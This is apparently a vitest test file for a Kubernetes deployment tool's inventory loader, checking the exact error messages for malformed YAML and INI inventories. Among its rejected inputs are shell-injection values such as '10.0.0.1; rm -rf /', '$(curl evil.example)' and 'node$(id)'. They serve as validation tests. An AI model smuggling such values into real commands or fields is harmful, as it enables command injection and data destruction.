import { readdirSync } from 'node:fs';
import { mkdtempSync, writeFileSync, mkdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { InventoryError } from '../../tasks/inventory/errors.ts';
import { loadInventory, MAX_INVENTORY_BYTES, parseInventoryText } from '../../tasks/inventory/load.ts';

// Every malformed inventory under test/fixtures/inventory/bad/ with the exact message it must produce:
// file, line, key and what was expected, one line per problem (all problems of a file at once).
// `F` stands for the fixture's path as passed to loadInventory.

const DIR = path.relative(process.cwd(), path.join(import.meta.dirname, '../fixtures/inventory/bad'));

const PASSWORD_MSG =
  'passwords are never read from inventory files; remove this variable and use -K/--ask-become-pass ' +
  'or the environment variable KPM_BECOME_PASSWORD';
const HOST_NAME_MSG = 'expected a host name of letters, digits, "_", "-" and "." (not starting with "-" or "."), got';
const GROUP_NAME_MSG = 'expected a group name of letters, digits, "_" and "-" (not starting with "-"), got';
const CIDR_MSG = 'expected an IPv4 or IPv6 CIDR (like 10.0.0.0/8 or fd00::/8), got';

interface Case {
  expected: string[];
  /** strings that must not appear anywhere in the message (secrets) */
  secrets?: string[];
}

const CASES: Record<string, Case> = {
  'unknown-kpm-var.yaml': {
    expected: ['F:4: all.vars.kpm_conect_timeout: unknown tool variable; did you mean kpm_connect_timeout?'],
  },
  'unknown-kube-proxy-var.yaml': {
    expected: [
      "F:7: all.children.k8s_cluster.vars.kube_proxy_strict_arpp: unknown kube-proxy variable (neither this tool's nor kubespray's); did you mean kube_proxy_strict_arp?",
      "F:8: all.children.k8s_cluster.vars.kube_proxy_banana: unknown kube-proxy variable (neither this tool's nor kubespray's); expected a kube_proxy_* variable this tool or kubespray defines",
    ],
  },
  'duplicate-host.yaml': {
    expected: ['F:9: all.children.kube_node.hosts.node1: host "node1" is declared twice in this group\'s hosts (first on line 5)'],
  },
  'duplicate-host.ini': {
    expected: ['F:3: [kube_node] node2: host "node2" is declared twice in this group (first on line 2)'],
  },
  'duplicate-var-key.yaml': {
    expected: ['F:6: all.hosts.node1.ansible_port: duplicate key "ansible_port" (first on line 4)'],
  },
  'empty-ansible-host.yaml': {
    expected: ['F:6: all.hosts.node2.ansible_host: expected an IP address or DNS host name, got nothing (the host would have no address)'],
  },
  'empty-ansible-host.ini': {
    expected: ['F:3: [kube_node] node2 ansible_host: expected an IP address or DNS host name, got nothing (the host would have no address)'],
  },
  'port-zero.yaml': {
    expected: ['F:4: all.hosts.node1.ansible_port: expected an integer port 1-65535, got "0"'],
  },
  'port-70000.yaml': {
    expected: ['F:7: all.children.kube_node.hosts.node3.ansible_port: expected an integer port 1-65535, got "70000"'],
  },
  'port-abc.ini': {
    expected: ['F:3: [kube_node] node3 ansible_port: expected an integer port 1-65535, got "abc"'],
  },
  'bool-maybe.yaml': {
    expected: ['F:3: all.vars.ansible_become: expected a boolean (true/false), got "maybe"'],
  },
  'bad-cidr.yaml': {
    expected: [
      `F:7: all.vars.kube_proxy_exclude_cidrs[1]: ${CIDR_MSG} "10.0.0.0/33"`,
      `F:8: all.vars.kube_proxy_exclude_cidrs[2]: ${CIDR_MSG} "fd00::/129"`,
      `F:9: all.vars.kube_proxy_exclude_cidrs[3]: ${CIDR_MSG} "not-a-cidr"`,
    ],
  },
  'bad-scheduler.yaml': {
    expected: [
      'F:5: all.vars.kube_proxy_scheduler: expected an IPVS scheduler (one of rr, wrr, lc, wlc, lblc, lblcr, dh, sh, sed, nq, fo, ovf, mh), got "roundrobin"',
    ],
  },
  'password.yaml': {
    expected: [`F:5: all.hosts.node1.ansible_become_password: ${PASSWORD_MSG}`, `F:7: all.vars.ansible_password: ${PASSWORD_MSG}`],
    secrets: ['Sup3r-Secret-Value', 'Another-Secret-Value'],
  },
  'password.ini': {
    expected: [`F:2: [kube_node] node1 ansible_ssh_pass: ${PASSWORD_MSG}`, `F:5: [all:vars] ansible_sudo_pass: ${PASSWORD_MSG}`],
    secrets: ['Hunter2-Secret-Value', 'Sudo-Secret-Value'],
  },
  'connection-docker.yaml': {
    expected: ['F:4: all.hosts.node1.ansible_connection: expected ssh, smart or paramiko (this tool only connects over SSH), got "docker"'],
  },
  'alias-bomb.yaml': {
    expected: ['F:5: YAML aliases expand too much (more than 50 alias expansions); refusing a document that looks like an alias bomb'],
  },
  'recursive-alias.yaml': {
    expected: ['F:3: YAML error: alias *all is used inside its own anchor (a recursive document)'],
  },
  'unresolved-alias.yaml': {
    expected: ['F:3: YAML error: unknown alias *defaults (the anchor must be defined before it is used)'],
  },
  'syntax-error.yaml': {
    // yaml notices the unclosed flow map where the next block key starts
    expected: ['F:6: YAML syntax error: Flow map in block collection must be sufficiently indented and end with a }'],
  },
  'shell-meta-host-name.yaml': {
    expected: [`F:3: all.hosts.node1;reboot: ${HOST_NAME_MSG} "node1;reboot"`, `F:5: all.hosts.node$(id): ${HOST_NAME_MSG} "node$(id)"`],
  },
  'shell-meta-host-name.ini': {
    expected: [`F:3: [kube_node] \`reboot\`: ${HOST_NAME_MSG} "\`reboot\`"`],
  },
  'shell-meta-ansible-host.yaml': {
    expected: [
      'F:4: all.hosts.node1.ansible_host: expected an IP address or DNS host name, got "10.0.0.1; rm -rf /"',
      'F:6: all.hosts.node2.ansible_host: expected an IP address or DNS host name, got "$(curl evil.example)"',
      'F:8: all.hosts.node3.ansible_host: expected an IP address or DNS host name, got "node 3.example.com"',
    ],
  },
  'cycle.yaml': {
    expected: ['F:9: all.children.a.children.b.children.c.children.a: group "a" contains itself: a -> b -> c -> a'],
  },
  'cycle.ini': {
    expected: ['F:6: [k8s_cluster:children] k8s_cluster: group "k8s_cluster" contains itself: k8s_cluster -> k8s_cluster'],
  },
  'hosts-list.yaml': {
    expected: ['F:4: all.children.kube_node.hosts: expected a map of host names (like "node1: {ansible_host: 10.0.0.1}"), got a list'],
  },
  'structure-not-maps.yaml': {
    expected: [
      'F:2: all.vars: expected a map of group variables (name: value), got a list',
      'F:4: all.children.kube_node: expected a group: a map with hosts, children and/or vars (or nothing), got "node1"',
      'F:6: all.children.etcd.children: expected a map of group names (like "kube_node: {hosts: ...}"), got a list',
      'F:9: all.children.calico_rr.hosts.node1: expected a map of host variables (or nothing), got "10.0.0.1"; to set the address write "node1: {ansible_host: ...}"',
    ],
  },
  'unknown-group-key.yaml': {
    expected: [
      'F:4: all.children.kube_node.host: unknown key in a group; expected hosts, children or vars (did you mean hosts?)',
      'F:6: all.children.kube_node.varz: unknown key in a group; expected hosts, children or vars (did you mean vars?)',
    ],
  },
  'bad-group-name.yaml': {
    expected: [`F:3: all.children.kube node: ${GROUP_NAME_MSG} "kube node"`, `F:6: all.children.k8s$cluster: ${GROUP_NAME_MSG} "k8s$cluster"`],
  },
  'empty.yaml': {
    expected: ['F:2: expected at least one host; this inventory declares none'],
  },
  'empty.ini': {
    expected: ['F:2: expected at least one host; this inventory declares none'],
  },
  'ini-bad-line.ini': {
    expected: [
      'F:3: [kube_node] node2: expected key=value host variables after the host name, got "ansible_host"',
      'F:6: [all:vars]: expected key=value, got "ansible_user ubuntu"',
    ],
  },
  'ini-unknown-section.ini': {
    expected: ['F:4: [kube_node:hosts]: unknown section type; expected [group], [group:vars] or [group:children]'],
  },
  'ini-undeclared-group.ini': {
    expected: [
      'F:6: [k8s_cluster:children] calico_rr: group "calico_rr" is never declared; add a [calico_rr] section (it may be empty)',
      'F:8: [etcd:vars]: group "etcd" is never declared; add a [etcd] or [etcd:children] section',
    ],
  },
  'forks-not-in-all.yaml': {
    expected: [
      "F:4: all.hosts.node1.ansible_group_priority: ansible_group_priority only applies to groups: set it in a group's vars",
      'F:8: all.children.kube_node.vars.kpm_forks: kpm_forks applies to the whole run: set it in the vars of group all (all.vars / [all:vars])',
    ],
  },
  'many-problems.ini': {
    expected: [
      'F:2: [kube_node] node1 ansible_port: expected an integer port 1-65535, got "0"',
      'F:2: [kube_node] node1 ansible_become: expected a boolean (true/false), got "perhaps"',
      'F:2: [kube_node] node1 kube_proxy_mode: expected one of ipvs, iptables, nftables, got "userspace"',
      'F:3: [kube_node] node2 ansible_user: expected a user name (letters, digits, "_", ".", "@", "-"), got "ubuntu; id"',
      'F:3: [kube_node] node2 kpm_connect_retries: expected an integer 0-10, got "11"',
      'F:6: [kube_node:vars] kpm_connect_timeout: expected a number of seconds greater than 0, got "-1"',
      'F:7: [kube_node:vars] kpm_command_timeout: expected a number of seconds greater than 0, got "soon"',
      'F:8: [kube_node:vars] kube_proxy_ipvs_modules[1]: expected a kernel module name (lowercase letters, digits, "_"), got "ip-vs-rr"',
    ],
  },
  'alias-conflict.yaml': {
    expected: ['F:5: all.hosts.node1.ansible_ssh_port: ansible_ssh_port and ansible_port (line 4) are the same variable; set only ansible_port'],
  },
  'range-backwards.ini': {
    expected: [
      'F:2: [kube_node] node[5:1]: expected a host range whose start is not after its end, got [5:1]',
      'F:3: [kube_node] node[01:3]: expected a zero-padded host range with equal widths (like [01:50]), got [01:3]',
    ],
  },
  'host-is-group.yaml': {
    expected: ['F:5: all.children.kube_node.hosts.etcd: "etcd" is both a host and a group; rename one (a --limit pattern could not tell them apart)'],
  },
  'host-name-not-address.ini': {
    expected: [
      'F:3: [kube_node] 10.0.0.300: host name "10.0.0.300" is not an IP address or DNS host name to connect to; set ansible_host',
      `F:4: [kube_node] -node3: ${HOST_NAME_MSG} "-node3"`,
    ],
  },
  'top-level-list.yaml': {
    expected: ['F:1: expected a map of groups at the top level (like "all:"), got a list'],
  },
  'forgot-all.yaml': {
    expected: [
      'F:1: hosts: expected group names at the top level, got "hosts" (did you forget "all:" above it?)',
      'F:3: vars: expected group names at the top level, got "vars" (did you forget "all:" above it?)',
    ],
  },
  'key-file-tilde-user.yaml': {
    expected: [
      'F:4: all.hosts.node1.ansible_ssh_private_key_file: expected a file path (only "~" and "~/..." are expanded, not "~user"), got "~bob/.ssh/id_rsa"',
    ],
  },
};

describe('malformed inventories (test/fixtures/inventory/bad)', () => {
  it('has a case for every fixture and a fixture for every case (at least 25)', () => {
    const files = readdirSync(DIR).sort();
    expect(Object.keys(CASES).sort()).toEqual(files);
    expect(files.length).toBeGreaterThanOrEqual(25);
  });

  for (const [name, c] of Object.entries(CASES)) {
    it(`${name}: ${c.expected.length} problem(s), exactly worded`, async () => {
      const file = path.join(DIR, name);
      const err = await loadInventory(file).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(err).toBeInstanceOf(InventoryError);
      const e = err as InventoryError;
      const expected = c.expected.map((l) => l.replace(/^F:/, `${file}:`));
      expect(e.message.split('\n')).toEqual(expected);
      expect(e.problems).toHaveLength(expected.length);
      for (const p of e.problems) {
        expect(p.file).toBe(file);
        expect(p.line).toBeGreaterThan(0);
      }
      expect(e.message).not.toMatch(/\n\s+at /); // no stack trace in what the user sees
      for (const s of c.secrets ?? []) {
        expect(e.message).not.toContain(s);
        expect(JSON.stringify(e.problems)).not.toContain(s);
      }
    });
  }
});

describe('problem fields', () => {
  it('split file, line, key and message', () => {
    try {
      parseInventoryText('all:\n  hosts:\n    node1:\n      ansible_port: "70000"\n', 'inventory/prod.yaml');
      expect.unreachable();
    } catch (e) {
      expect(e).toBeInstanceOf(InventoryError);
      expect((e as InventoryError).problems).toEqual([
        {
          file: 'inventory/prod.yaml',
          line: 4,
          key: 'all.hosts.node1.ansible_port',
          message: 'expected an integer port 1-65535, got "70000"',
        },
      ]);
      expect((e as InventoryError).message).toBe(
        'inventory/prod.yaml:4: all.hosts.node1.ansible_port: expected an integer port 1-65535, got "70000"',
      );
    }
  });

  it('never echo a password, even where the structure is wrong', () => {
    const texts: Array<[string, string]> = [
      ['[all]\nansible_password=Leaky-Secret-1\n', 'a.ini'],
      ['[all]\nnode1 ansible_become_pass=Leaky-Secret-1 oops\n', 'a.ini'],
      ['[all]\nnode1 ansible_become_pass="Leaky-Secret-1\n', 'a.ini'],
      ['[all:vars]\nansible_password Leaky-Secret-1\n', 'a.ini'],
      ['all:\n  hosts:\n    ansible_password: Leaky-Secret-1\n', 'a.yaml'],
      ['ansible_become_password: Leaky-Secret-1\n', 'a.yaml'],
      ['all:\n  vars:\n    ansible_ssh_pass: [Leaky-Secret-1]\n  hosts: {node1: }\n', 'a.yaml'],
    ];
    for (const [text, file] of texts) {
      let message = '';
      try {
        parseInventoryText(text, file);
      } catch (e) {
        expect(e).toBeInstanceOf(InventoryError);
        message = (e as InventoryError).message + JSON.stringify((e as InventoryError).problems);
      }
      expect(message, text).not.toBe('');
      expect(message, text).not.toContain('Leaky-Secret-1');
    }
  });
});

describe('IPVS timeouts', () => {
  it('must be Go durations; each problem names file, line and key', () => {
    const text = [
      'all:',
      '  vars:',
      '    kube_proxy_tcp_timeout: 15 minutes',
      '    kube_proxy_tcp_fin_timeout: 900',
      '  hosts:',
      '    node1:',
      '      kube_proxy_udp_timeout: -1s',
      '    node2:',
      '      kube_proxy_udp_timeout: [30s]',
      '    node3:',
      '      kube_proxy_tcp_timeout: "{{ ipvs_tcp_timeout }}"',
      '',
    ].join('\n');
    try {
      parseInventoryText(text, 'inventory/prod.yaml');
      expect.unreachable();
    } catch (e) {
      expect(e).toBeInstanceOf(InventoryError);
      expect((e as InventoryError).message.split('\n')).toEqual([
        'inventory/prod.yaml:3: all.vars.kube_proxy_tcp_timeout: expected a Go duration (like 900s, 15m0s or 0s), got "15 minutes"',
        'inventory/prod.yaml:4: all.vars.kube_proxy_tcp_fin_timeout: expected a Go duration with a unit (like 900s, 15m0s or 0s), got "900"',
        'inventory/prod.yaml:7: all.hosts.node1.kube_proxy_udp_timeout: expected a Go duration (like 900s, 15m0s or 0s), got "-1s"',
        'inventory/prod.yaml:9: all.hosts.node2.kube_proxy_udp_timeout: expected a Go duration (like 900s, 15m0s or 0s), got a list',
        'inventory/prod.yaml:11: all.hosts.node3.kube_proxy_tcp_timeout: templated values are not evaluated: write the value itself, not "{{ ipvs_tcp_timeout }}"',
      ]);
      expect((e as InventoryError).problems[0]).toEqual({
        file: 'inventory/prod.yaml',
        line: 3,
        key: 'all.vars.kube_proxy_tcp_timeout',
        message: 'expected a Go duration (like 900s, 15m0s or 0s), got "15 minutes"',
      });
    }
  });

  it('the same in INI, where every value is a string', () => {
    const text = '[kube_node]\nnode1 kube_proxy_tcp_timeout=900\n[all:vars]\nkube_proxy_udp_timeout=1d\n';
    expect(() => parseInventoryText(text, 'inventory/prod.ini')).toThrow(
      new InventoryError([
        {
          file: 'inventory/prod.ini',
          line: 2,
          key: '[kube_node] node1 kube_proxy_tcp_timeout',
          message: 'expected a Go duration with a unit (like 900s, 15m0s or 0s), got "900"',
        },
        { file: 'inventory/prod.ini', line: 4, key: '[all:vars] kube_proxy_udp_timeout', message: 'expected a Go duration (like 900s, 15m0s or 0s), got "1d"' },
      ]),
    );
  });

  it('a misspelt name gets a suggestion', () => {
    expect(() => parseInventoryText('all:\n  vars:\n    kube_proxy_tcp_timout: 900s\n  hosts:\n    node1:\n', 'i.yaml')).toThrow(
      "i.yaml:3: all.vars.kube_proxy_tcp_timout: unknown kube-proxy variable (neither this tool's nor kubespray's); did you mean kube_proxy_tcp_timeout?",
    );
  });
});

describe('file-level problems', () => {
  it('rejects a file over 10 MiB (text and file)', async () => {
    const big = '#'.repeat(MAX_INVENTORY_BYTES + 1);
    expect(() => parseInventoryText(big, 'big.yaml')).toThrow(
      'big.yaml: expected an inventory file of at most 10 MiB; this one is larger (is it the right file?)',
    );
    const dir = mkdtempSync(path.join(tmpdir(), 'kpm-inv-test-'));
    const file = path.join(dir, 'big.ini');
    writeFileSync(file, big);
    await expect(loadInventory(file)).rejects.toThrow(`${file}: expected an inventory file of at most 10 MiB`);
    rmSync(dir, { recursive: true, force: true });
  });

  it('names a missing file or a directory', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'kpm-inv-test-'));
    await expect(loadInventory(path.join(dir, 'nope.yaml'))).rejects.toThrow(
      `${path.join(dir, 'nope.yaml')}: cannot read the inventory file (no such file)`,
    );
    mkdirSync(path.join(dir, 'inv'));
    await expect(loadInventory(path.join(dir, 'inv'))).rejects.toThrow(InventoryError);
    rmSync(dir, { recursive: true, force: true });
  });

  it('reports an empty YAML file as an inventory without hosts', () => {
    expect(() => parseInventoryText('', 'hosts.yaml')).toThrow('hosts.yaml:1: expected at least one host; this inventory declares none');
  });
});
